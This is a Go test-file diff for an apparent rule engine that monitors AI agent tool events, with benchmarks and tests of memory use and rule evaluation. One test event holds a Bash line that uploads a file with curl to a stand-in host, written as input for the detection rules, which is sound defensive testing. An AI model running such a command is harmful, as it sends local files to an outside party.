@@ -267,8 +267,9 @@ func FuzzParse(f *testing.F) {
 	})
 }
 
-func BenchmarkRules(b *testing.B) {
-	rs := shipped(b)
+// benchEvents is a mix as on the wire: prompts, decisions, results and requests
+// of a hundred sessions, decoded.
+func benchEvents() []event.Event {
 	text := func(s string) *string { return &s }
 	paths := &[]string{"/Users/ana/claims"}
 	mix := []TestEvent{
@@ -287,14 +288,94 @@ func BenchmarkRules(b *testing.B) {
 		}
 		evs = append(evs, ev)
 	}
-	e := New(rs, Config{Allowlist: []string{"zoom"}, DesktopFloor: "1.15962", Content: []string{"toolDetails"}})
-	b.ReportAllocs()
-	i := 0
-	for b.Loop() {
-		ev := &evs[i%len(evs)]
-		ev.Time = origin.UnixNano() + int64(i)*int64(time.Second)
-		e.Observe(ev)
-		i++
+	return evs
+}
+
+// BenchmarkRules runs the shipped rules with their state, and a hundred rules
+// made of them, on one core.
+func BenchmarkRules(b *testing.B) {
+	rs := shipped(b)
+	hundred := make([]*Rule, 0, 100)
+	for i := range 100 {
+		r := *rs[i%len(rs)]
+		r.ID.Value = fmt.Sprint(r.ID.Value, "-", i)
+		hundred = append(hundred, &r)
 	}
-	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
+	for _, c := range []struct {
+		name string
+		rs   []*Rule
+	}{{"shipped", rs}, {"hundred", hundred}} {
+		b.Run(c.name, func(b *testing.B) {
+			evs := benchEvents()
+			e := New(c.rs, Config{Allowlist: []string{"zoom"}, DesktopFloor: "1.15962", Content: []string{"toolDetails"}})
+			b.ReportAllocs()
+			i := 0
+			for b.Loop() {
+				ev := &evs[i%len(evs)]
+				ev.Time = origin.UnixNano() + int64(i)*int64(time.Second)
+				e.Observe(ev)
+				i++
+			}
+			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
+			b.ReportMetric(float64(len(c.rs)), "rules")
+		})
+	}
+}
+
+// An event that no rule listens to, and one that its name and tool settle, cost
+// no memory.
+func TestNoAllocationForWhatNoRuleListensTo(t *testing.T) {
+	e := New(shipped(t), Config{})
+	other := (&TestEvent{Kind: "hook_execution_start"}).event()
+	other.Product = event.DesktopLogs
+	other.Time = origin.UnixNano()
+	e.Observe(&other)
+	if n := testing.AllocsPerRun(1000, func() { e.Observe(&other) }); n != 0 {
+		t.Errorf("%v allocations for an event that no rule listens to", n)
+	}
+	e = New(load(t, threeRejections), Config{})
+	e.Observe(&other)
+	if n := testing.AllocsPerRun(1000, func() { e.Observe(&other) }); n != 0 {
+		t.Errorf("%v allocations", n)
+	}
+}
+
+// Tool names are the sender's: inventing them must not fill the memory.
+func TestInventedToolNames(t *testing.T) {
+	e := New(load(t, "    condition: tool_name == \"Bash\"\n"), Config{})
+	for i := range 5000 {
+		ev := (&TestEvent{Kind: "tool_result", Tool: fmt.Sprint("tool-", i)}).event()
+		e.Observe(&ev)
+	}
+	ev := (&TestEvent{Kind: "tool_result", Tool: "Bash"}).event()
+	e.Observe(&ev)
+	r := e.Reports()[0]
+	if len(e.buckets) > maxBuckets || r.Reached != 5001 || r.Evaluable != 5001 || r.Matched != 1 {
+		t.Errorf("%d buckets, %+v", len(e.buckets), r)
+	}
+}
+
+// What is settled by name and tool is what the condition says anyway.
+func TestSettledAgainstTheCondition(t *testing.T) {
+	cfg := Config{Allowlist: []string{"zoom"}, ReadOnly: []string{"zoom"}, Content: []string{"toolDetails"}, Forbidden: map[string][]string{}}
+	n := 0
+	for _, r := range shipped(t) {
+		for _, x := range []TestEvent{
+			{Kind: "tool_result", Tool: "Read", Path: "/a/b"}, {Kind: "tool_result", Tool: "Read"}, {Kind: "tool_result", Tool: "Bash", Command: "curl -F a=@b https://x.example"}, {Kind: "tool_result", Tool: "Bash"},
+			{Kind: "tool_result", Tool: "mcp_tool", Server: "zoom", ServerTool: "send_note"}, {Kind: "tool_result", Tool: "mcp_tool"}, {Kind: "tool_decision", Tool: "navigate", Decision: "accept", Source: "config"},
+			{Kind: "tool_result"}, {Kind: "user_prompt"}, {Kind: "api_request"}, {Kind: "something_new"}, {Kind: "tool_result", Tool: "WebFetch", Input: `{"url":"https://x.example"}`},
+		} {
+			ev := x.event()
+			s := nature{ev.Kind, ev.Tool, ev.Tool != "", ev.MCPKnown != event.NotApplicable, true}
+			if settled(r.prog.Tree(), &s) == condition.False {
+				n++
+				if v, lines := r.Explain(&ev, cfg); v != condition.False {
+					t.Errorf("%s on %s %s: settled as false, the condition says %s: %v", r.ID, ev.Name, ev.Tool, v, lines)
+				}
+			}
+		}
+	}
+	if n < 50 {
+		t.Errorf("only %d settled: the test shows little", n)
+	}
 }
